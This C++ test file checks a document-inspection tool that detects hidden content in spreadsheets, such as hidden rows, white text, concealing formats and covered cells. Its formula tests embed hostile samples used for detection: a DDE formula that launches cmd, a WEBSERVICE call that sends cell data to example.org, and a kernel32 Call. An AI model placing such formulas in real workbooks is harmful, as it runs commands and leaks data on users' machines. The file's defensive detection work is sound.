// Worksheets: what a reader does not see is found at its place, what is ordinary stays silent.
#include <gtest/gtest.h>

#include "test_book.h"

namespace shareguard::inspect {
namespace {

using policy::Severity;

void ExpectInSheet(const TestBook& book, std::string_view id, std::string_view mark) {
  ExpectAt(book, id, kSheetPart, book.Sheet(), mark);
}

TEST(SheetCellsTest, OrdinaryBookIsSilent) {
  const TestBook book;
  for (const char* id :
       {"office.hidden_rows", "office.hidden_columns", "office.hidden_sheets", "office.white_text", "office.tiny_text",
        "office.hidden_format", "office.far_cells", "office.unused_strings", "office.cell_order", "xml.unknown_element",
        "office.covered_cells", "office.long_numbers", "office.row_spans", "office.unexpected_part"}) {
    EXPECT_FALSE(FindIn(book, id)) << id;
  }
}

TEST(SheetCellsTest, HiddenRows) {
  for (const char* attributes : {"hidden=\"1\"", "ht=\"0\" customHeight=\"1\"", "hidden=\"true\"", "ht=\"0.5\""}) {
    TestBook book;
    const std::string row = std::string("<row r=\"2\" ") + attributes + ">";
    book.rows += row + "<c r=\"A2\"><v>5</v></c></row>";
    ExpectInSheet(book, "office.hidden_rows", row);
  }
}

TEST(SheetCellsTest, RowsHiddenByDefault) {
  for (const char* attributes : {"defaultRowHeight=\"15\" zeroHeight=\"1\"", "defaultRowHeight=\"0.1\""}) {
    TestBook book;
    book.columns = std::string("<sheetFormatPr ") + attributes + "/>";
    ExpectInSheet(book, "office.hidden_rows", "<sheetFormatPr");
    book.rows = "<row r=\"1\" ht=\"15\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>";
    EXPECT_FALSE(FindIn(book, "office.hidden_rows"));
  }
}

TEST(SheetCellsTest, EmptyHiddenRowsHideNothing) {
  TestBook book;
  book.rows += "<row r=\"2\" hidden=\"1\"><c r=\"A2\" s=\"1\"/></row><row r=\"3\" hidden=\"1\"/>";
  EXPECT_FALSE(FindIn(book, "office.hidden_rows"));
}

TEST(SheetCellsTest, HiddenColumns) {
  for (const char* attributes : {"hidden=\"1\"", "width=\"0\" customWidth=\"1\"", "width=\"0.1\""}) {
    TestBook book;
    const std::string column = std::string("<col min=\"2\" max=\"2\" ") + attributes + "/>";
    book.columns = "<cols>" + column + "</cols>";
    ExpectInSheet(book, "office.hidden_columns", column);
    book.columns = "<cols><col min=\"3\" max=\"16384\" hidden=\"1\"/></cols>";
    EXPECT_FALSE(FindIn(book, "office.hidden_columns"));
  }
}

TEST(SheetCellsTest, ColumnsHiddenByDefaultWidth) {
  TestBook book;
  book.columns = "<sheetFormatPr defaultColWidth=\"0\" defaultRowHeight=\"15\"/>";
  ExpectInSheet(book, "office.hidden_columns", "<sheetFormatPr");
}

TEST(SheetCellsTest, FarCells) {
  TestBook book;
  book.rows += "<row r=\"900\"><c r=\"A900\"><v>5</v></c></row>";
  EXPECT_FALSE(FindIn(book, "office.far_cells"));
  book.rows += "<row r=\"1048576\"><c r=\"A1048576\"><v>5</v></c></row>";
  ExpectInSheet(book, "office.far_cells", "<c r=\"A1048576\"");
}

TEST(SheetCellsTest, FarColumns) {
  TestBook book;
  book.rows += "<row r=\"2\"><c r=\"XFD2\"><v>5</v></c></row>";
  ExpectInSheet(book, "office.far_cells", "<c r=\"XFD2\"");
}

TEST(SheetCellsTest, CoveredCells) {
  TestBook book;
  book.rows += "<row r=\"3\"><c r=\"A3\"><v>5</v></c><c r=\"B3\" s=\"1\"/></row>";
  book.behind = "<mergeCells count=\"1\"><mergeCell ref=\"A3:B4\"/></mergeCells>";
  EXPECT_FALSE(FindIn(book, "office.covered_cells"));
  book.rows += "<row r=\"4\"><c r=\"B4\"><v>6</v></c></row>";
  ExpectInSheet(book, "office.covered_cells", "<mergeCell ref");
}

TEST(SheetCellsTest, CellsTwice) {
  TestBook book;
  book.rows += "<row r=\"2\"><c r=\"A2\"><v>5</v></c><c r=\"A2\"><v>6</v></c></row>";
  ExpectInSheet(book, "office.cell_order", "<c r=\"A2\"><v>6");
  book.rows = "<row r=\"2\"><c r=\"A2\"><v>5</v></c></row><row r=\"1\"><c r=\"A1\"><v>5</v></c></row>";
  ExpectInSheet(book, "office.cell_order", "<row r=\"1\"");
}

TEST(SheetCellsTest, CellsWithoutReferences) {
  TestBook book;
  book.rows = "<row><c><v>1</v></c><c><v>2</v></c></row><row hidden=\"1\"><c><v>3</v></c></row>";
  EXPECT_FALSE(FindIn(book, "office.cell_order"));
  ExpectInSheet(book, "office.hidden_rows", "<row hidden");
}

// A cell of the first style beside the default one.
TestBook Styled(const std::string& format, const std::string& font, const std::string& fill, const std::string& value) {
  TestBook book;
  book.styles = StylesOf(format, "<font>" + font + "</font>", "<fill>" + fill + "</fill>",
                         "<xf numFmtId=\"164\" fontId=\"1\" fillId=\"2\"/>");
  book.rows += "<row r=\"2\"><c r=\"A2\" s=\"1\"><v>" + value + "</v></c></row>";
  return book;
}

constexpr const char* kNoFill = "<patternFill patternType=\"none\"/>";

TEST(SheetCellsTest, WhiteText) {
  for (const char* color : {"rgb=\"FFFFFFFF\"", "rgb=\"FFFDFDFD\"", "theme=\"0\"", "indexed=\"1\"", "indexed=\"65\"",
                            "theme=\"1\" tint=\"0.95\""}) {
    const TestBook book = Styled("", std::string("<color ") + color + "/>", kNoFill, "5");
    ExpectInSheet(book, "office.white_text", "<c r=\"A2\"");
  }
}

TEST(SheetCellsTest, WhiteTextOnDarkGroundIsOrdinary) {
  const std::string dark = "<patternFill patternType=\"solid\"><fgColor rgb=\"FF4472C4\"/></patternFill>";
  EXPECT_FALSE(FindIn(Styled("", "<color theme=\"0\"/>", dark, "5"), "office.white_text"));
  EXPECT_FALSE(FindIn(Styled("", "<color rgb=\"FF808080\"/>", kNoFill, "5"), "office.white_text"));
  EXPECT_FALSE(FindIn(Styled("", "<color rgb=\"FFFFFF00\"/>", kNoFill, "5"), "office.white_text"));
}

TEST(SheetCellsTest, TextOfItsGroundsColour) {
  const std::string blue = "<patternFill patternType=\"solid\"><fgColor rgb=\"FF4472C4\"/></patternFill>";
  const TestBook book = Styled("", "<color rgb=\"FF4472C5\"/>", blue, "5");
  ExpectInSheet(book, "office.white_text", "<c r=\"A2\"");
}

TEST(SheetCellsTest, EmptyWhiteCellsHideNothing) {
  TestBook book = Styled("", "<color theme=\"0\"/>", kNoFill, "5");
  book.rows = "<row r=\"1\"><c r=\"A1\" s=\"1\"/><c r=\"B1\" t=\"s\"><v>0</v></c></row>";
  EXPECT_FALSE(FindIn(book, "office.white_text"));
}

TEST(SheetCellsTest, ColouredByThePalette) {
  TestBook book = Styled("", "<color indexed=\"20\"/>", kNoFill, "5");
  EXPECT_FALSE(FindIn(book, "office.white_text"));
  std::string palette;
  for (int i = 0; i < 21; ++i) palette += i == 20 ? "<rgbColor rgb=\"00FFFFFF\"/>" : "<rgbColor rgb=\"00000000\"/>";
  book.styles += "<colors><indexedColors>" + palette + "</indexedColors></colors>";
  ExpectInSheet(book, "office.white_text", "<c r=\"A2\"");
}

TEST(SheetCellsTest, TinyText) {
  ExpectInSheet(Styled("", "<sz val=\"1\"/>", kNoFill, "5"), "office.tiny_text", "<c r=\"A2\"");
  EXPECT_FALSE(FindIn(Styled("", "<sz val=\"6\"/>", kNoFill, "5"), "office.tiny_text"));
}

TEST(SheetCellsTest, HidingFormats) {
  const auto format = [](const char* code) {
    return std::string("<numFmt numFmtId=\"164\" formatCode=\"") + code + "\"/>";
  };
  for (const char* code : {";;;", ";;", "&quot;n/a&quot;", "0;0;0,,,,", "[&gt;100]0;;", "&quot; &quot;;0"}) {
    SCOPED_TRACE(code);
    const bool shown = std::string_view(code) == "0;0;0,,,,";
    const TestBook book = Styled(format(code), "", kNoFill, "42");
    EXPECT_EQ(FindIn(book, "office.hidden_format").has_value(), !shown);
    if (!shown) ExpectInSheet(book, "office.hidden_format", "<c r=\"A2\"");
  }
  for (const char* code : {"0.00", "#,##0;[Red]-#,##0", "_-* #,##0.00_-;-* #,##0.00_-;_-* &quot;-&quot;??_-;_-@_-",
                           "0;-0;;@", "yyyy\\-mm\\-dd", "[h]:mm", "General", "GENERAL", "[Blue]", "@"}) {
    EXPECT_FALSE(FindIn(Styled(format(code), "", kNoFill, "42"), "office.hidden_format")) << code;
  }
  EXPECT_FALSE(FindIn(Styled(format("&quot;Yes&quot;;&quot;Yes&quot;;&quot;No&quot;"), "", kNoFill, "1"),
                      "office.hidden_format"));
  EXPECT_TRUE(FindIn(Styled(format("[White]0"), "", kNoFill, "42"), "office.white_text"));
}

TEST(SheetCellsTest, FormatsThatHideText) {
  TestBook book = Styled("<numFmt numFmtId=\"164\" formatCode=\"0;0;0;\"/>", "", kNoFill, "42");
  EXPECT_FALSE(FindIn(book, "office.hidden_format"));
  book.rows = "<row r=\"1\"><c r=\"A1\" s=\"1\" t=\"s\"><v>0</v></c></row>";
  ExpectInSheet(book, "office.hidden_format", "<c r=\"A1\"");
}

TEST(SheetCellsTest, ConditionalFormattingThatHides) {
  TestBook book;
  book.styles =
      "<dxfs><dxf><numFmt numFmtId=\"164\" formatCode=\";;;\"/></dxf>"
      "<dxf><font><color theme=\"0\"/></font></dxf><dxf><border><left><color theme=\"0\"/></left></border></dxf>"
      "</dxfs>";
  const auto rule = [](const char* range, int style, const char* formula) {
    return std::string("<conditionalFormatting sqref=\"") + range + "\"><cfRule type=\"expression\" dxfId=\"" +
           std::to_string(style) + "\" priority=\"1\"><formula>" + formula +
           "</formula></cfRule></conditionalFormatting>";
  };
  book.behind = rule("A1:B9", 0, "A1&gt;3");
  ExpectInSheet(book, "office.hidden_format", "<cfRule");
  book.behind = rule("D1:E9", 0, "A1&gt;3");
  EXPECT_FALSE(FindIn(book, "office.hidden_format"));
  book.behind = rule("A1:B9", 1, "TRUE");
  EXPECT_TRUE(FindIn(book, "office.white_text", Severity::kMedium));
  book.behind = rule("A1:B9", 1, "ISERROR(A1)");
  EXPECT_FALSE(FindIn(book, "office.white_text", Severity::kMedium));
  book.behind = rule("A1:B9", 2, "TRUE");
  EXPECT_FALSE(FindIn(book, "office.white_text"));
}

TEST(SheetCellsTest, LongNumbers) {
  TestBook book;
  book.rows +=
      "<row r=\"2\"><c r=\"A2\"><v>0.10000000000000001</v></c><c r=\"B2\"><v>-1.2345678901234567E-5</v></c></row>";
  EXPECT_FALSE(FindIn(book, "office.long_numbers"));
  book.rows += "<row r=\"3\">";
  for (const char* column : {"A", "B", "C", "D"}) {
    book.rows += std::string("<c r=\"") + column + "3\"><v>0.123456789012345678901234567890</v></c>";
  }
  book.rows += "</row>";
  ExpectInSheet(book, "office.long_numbers", "<c r=\"A3\"");
  EXPECT_TRUE(FindIn(book, "office.long_numbers", Severity::kMedium));
}

TEST(SheetCellsTest, SpansThatVary) {
  TestBook honest;
  TestBook lying;
  honest.rows = lying.rows = "";
  for (int row = 1; row <= 40; ++row) {
    const std::string number = std::to_string(row);
    const std::string cell = "<c r=\"B" + number + "\"><v>1</v></c></row>";
    honest.rows += "<row r=\"" + number + "\" spans=\"" + (row <= 16 ? "1:3" : "2:2") + "\">" + cell;
    lying.rows += "<row r=\"" + number + "\" spans=\"1:" + std::to_string(row * 77 % 90 + 3) + "\">" + cell;
  }
  EXPECT_FALSE(FindIn(honest, "office.row_spans"));
  ExpectInSheet(lying, "office.row_spans", "<row r=\"2\"");
}

TEST(SheetCellsTest, Formulas) {
  const auto with = [](const std::string& formula) {
    TestBook book;
    book.rows += "<row r=\"2\"><c r=\"A2\"><f>" + formula + "</f><v>1</v></c></row>";
    return book;
  };
  ExpectInSheet(with("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)"), "office.active_formula", "<c r=\"A2\"");
  ExpectInSheet(with("1+Call(\"kernel32\",\"x\",\"J\")"), "office.active_formula", "<c r=\"A2\"");
  ExpectInSheet(with("cmd|'/C calc'!A0"), "office.dde", "<c r=\"A2\"");
  ExpectInSheet(with("B1+N(\"" + std::string(80, 'x') + "\")"), "office.hidden_text", "<c r=\"A2\"");
  const TestBook plain = with("IF(SUM(A1:B1)&gt;0,\"call (me) | later\",'it''s | a (sheet)'!A1)+RECALL(1)");
  for (const char* id : {"office.active_formula", "office.dde", "office.hidden_text"}) EXPECT_FALSE(FindIn(plain, id));
}

TEST(SheetCellsTest, InlineText) {
  TestBook book;
  book.rows +=
      "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>plain</t></is></c><c r=\"B2\" t=\"inlineStr\"><is><r>"
      "<rPr><color rgb=\"FFFFFFFF\"/></rPr><t>white</t></r></is></c></row>";
  ExpectInSheet(book, "office.white_text", "<c r=\"B2\"");
}

TEST(SheetCellsTest, SettingsThatHoldText) {
  TestBook book;
  book.behind =
      "<scenarios><scenario name=\"a\" count=\"1\"><inputCells r=\"A1\" val=\"secret\"/></scenario></scenarios>";
  ExpectInSheet(book, "office.scenarios", "<inputCells");
  book.behind = "<dataValidations count=\"1\"><dataValidation prompt=\"" + std::string(2000, 'x') +
                "\" sqref=\"A1\"/></dataValidations>";
  ExpectInSheet(book, "office.input_messages", "<dataValidation ");
  EXPECT_TRUE(FindIn(book, "office.input_messages", Severity::kMedium));
  book.behind = "<headerFooter><oddHeader>" + std::string(3000, 'x') + "</oddHeader></headerFooter>";
  ExpectInSheet(book, "xml.long_value", "<oddHeader");
}

TEST(SheetCellsTest, IdsThatSpellText) {
  const auto id = [](const char* guid) {
    TestBook book;
    book.behind = std::string(
                      "<dataValidations count=\"1\"><dataValidation xmlns:xr=\"http://schemas.microsoft.com/office/"
                      "spreadsheetml/2014/revision\" xr:uid=\"{") +
                  guid + "}\" sqref=\"A1\"/></dataValidations>";
    return book;
  };
  ExpectInSheet(id("48454C4C-4F20-574F-524C-442048454C4C"), "office.revision_ids", "<dataValidation ");
  EXPECT_FALSE(FindIn(id("8F1B7C0E-4A3D-4E21-9C55-D20F00B7A1C3"), "office.revision_ids"));
  EXPECT_FALSE(FindIn(id("00000000-0002-0000-0000-000000000000"), "office.revision_ids"));
}

}  // namespace
}  // namespace shareguard::inspect
